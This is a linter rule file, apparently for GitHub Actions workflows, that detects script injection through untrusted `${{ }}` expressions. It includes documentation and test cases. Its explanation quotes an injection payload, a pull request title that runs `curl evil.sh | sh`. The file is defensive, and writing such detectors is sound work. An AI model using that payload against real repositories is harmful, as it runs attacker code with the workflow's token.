import type { Rule } from '../../engine/types';
import type { WorkflowModel } from '../model';
import { reportExpressionFindings } from '../expr/report';

const rule: Rule<WorkflowModel> = {
  id: 'untrusted-input',
  language: 'workflow',
  severity: 'error',
  compat: { actionlint: 'expression' },
  docs: {
    summary: 'A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.',
    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead.',
    bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
  },
  check(ctx) {
    reportExpressionFindings(ctx, 'untrusted-input');
  },
  tests: [
    {
      name: 'titles, commit messages and branch names in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo ${{ github.event.commits[0].message }} ${{ github.head_ref }}\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.pull_request.body }}')\n",
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted' },
        { line: 8, col: 20, message: 'github.event.commits.*.message' },
        { line: 8, message: 'github.head_ref' },
        { line: 11, message: 'github.event.pull_request.body' },
      ],
    },
    {
      name: 'untrusted values through env, and trusted values in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$T\" ${{ github.event.pull_request.number }} ${{ github.sha }}\n        env:\n          T: ${{ github.event.pull_request.title }}\n",
      expect: [],
    },
  ],
};

export default rule;
